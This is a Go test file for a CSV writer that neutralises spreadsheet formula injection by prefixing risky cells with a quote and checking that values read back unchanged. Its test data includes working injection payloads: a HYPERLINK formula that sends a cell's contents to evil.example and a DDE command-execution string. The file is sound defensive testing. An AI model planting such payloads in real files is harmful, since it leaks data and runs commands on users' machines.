package csvio_test

import (
	"bytes"
	"encoding/csv"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"pakt/internal/csvio"
)

// hostile are values a spreadsheet would run as a formula, and values that
// look like the escaping itself; ordinary are values that stay as they are.
var (
	hostile = []string{`=HYPERLINK("http://evil.example?"&A1,"x")`, `+cmd|' /C calc'!A0`, "-5 %", "+49 30 1234567", "@handle",
		"=1+2", "\tTab", "\r=1", "'=1+2", "''-x", "'", "'@", "-", "=", ""}
	ordinary = []string{"Müller IT GmbH & Co. KG", "'quoted'", "it's", "'x", "''", "a=b", "5-3", "e-mail@example.com"}
)

func TestEscapeNeutralisesFormulas(t *testing.T) {
	for _, v := range append(slices.Clone(hostile), ordinary...) {
		got := csvio.Escape(v)
		if got != "" && strings.ContainsAny(got[:1], "=+-@\t\r") {
			t.Errorf("Escape(%q) = %q, starts with a formula character", v, got)
		}
		if back := csvio.Unescape(got); back != v {
			t.Errorf("Unescape(Escape(%q)) = %q, want the value back", v, back)
		}
	}
	for _, v := range ordinary {
		if got := csvio.Escape(v); got != v {
			t.Errorf("Escape(%q) = %q, want it unchanged", v, got)
		}
	}
	for v, want := range map[string]string{"=1+2": "'=1+2", "'=1+2": "''=1+2", "-5 %": "'-5 %", "\tx": "'\tx"} {
		if got := csvio.Escape(v); got != want {
			t.Errorf("Escape(%q) = %q, want %q", v, got, want)
		}
	}
}

// A file a Writer wrote reads back cell for cell, and no cell in it starts
// with a formula character, for the writer's separator and line ends.
func TestWriterRoundTrip(t *testing.T) {
	for _, tc := range []struct {
		comma rune
		crlf  bool
	}{{',', false}, {';', true}, {'\t', false}} {
		var b bytes.Buffer
		w := csvio.NewWriter(&b)
		w.Comma, w.UseCRLF = tc.comma, tc.crlf
		header := []string{"name", "note", "amount"}
		var rows [][]string
		for i, v := range append(slices.Clone(hostile), ordinary...) {
			rows = append(rows, []string{"Zeile " + string(rune('A'+i)), v, "1"})
		}
		for _, rec := range append([][]string{header}, rows...) {
			if err := w.Write(rec); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		raw := csv.NewReader(bytes.NewReader(b.Bytes()))
		raw.Comma = tc.comma
		cells, err := raw.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, rec := range cells {
			for _, c := range rec {
				if c != "" && strings.ContainsAny(c[:1], "=+-@\t\r") {
					t.Errorf("comma %q: a spreadsheet sees the cell %q", tc.comma, c)
				}
			}
		}
		f, errs, err := csvio.Read(&b)
		if err != nil || errs != nil {
			t.Fatalf("comma %q: read: %v %v", tc.comma, errs, err)
		}
		if !slices.Equal(f.Header, header) {
			t.Errorf("comma %q: header %q, want %q", tc.comma, f.Header, header)
		}
		var got [][]string
		for _, r := range f.Records {
			got = append(got, r.Cells)
		}
		// Read leaves out the row whose cells are all empty; there is none.
		if len(got) != len(rows) {
			t.Fatalf("comma %q: %d records, want %d", tc.comma, len(got), len(rows))
		}
		for i := range rows {
			want := slices.Clone(rows[i])
			if tc.crlf {
				// With CRLF line ends, encoding/csv drops a lone carriage
				// return inside a cell.
				want[1] = strings.ReplaceAll(want[1], "\r", "")
			}
			if !slices.Equal(got[i], want) {
				t.Errorf("comma %q: record %q, want %q", tc.comma, got[i], want)
			}
		}
	}
}

// Numbers in the columns marked as numeric stay numbers for the
// spreadsheet; text that only starts like one does not.
func TestWriterNumbers(t *testing.T) {
	var b bytes.Buffer
	w := csvio.NewWriter(&b)
	w.Numbers(1)
	w.Write([]string{"-5", "-5"})
	w.Write([]string{"-0.5", "-0.5"})
	w.Write([]string{"+3", "+3"})
	w.Write([]string{"-5+A1", "-5+A1"})
	w.Write([]string{"-1,5", "-1,5"})
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	want := "'-5,-5\n'-0.5,-0.5\n'+3,+3\n'-5+A1,'-5+A1\n\"'-1,5\",\"'-1,5\"\n"
	if b.String() != want {
		t.Errorf("wrote\n%s\nwant\n%s", b.String(), want)
	}
}

// Every CSV pakt writes goes through Writer: no other package makes its
// own encoding/csv writer, which would skip the escaping.
func TestOnlyWriterWritesCSV(t *testing.T) {
	root := filepath.Join("..", "..")
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return err
		}
		b, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		if bytes.Contains(b, []byte("csv.NewWriter(")) && !strings.HasSuffix(filepath.ToSlash(path), "internal/csvio/writer.go") {
			t.Errorf("%s writes CSV with encoding/csv; use csvio.NewWriter, which keeps formulas from running", path)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}
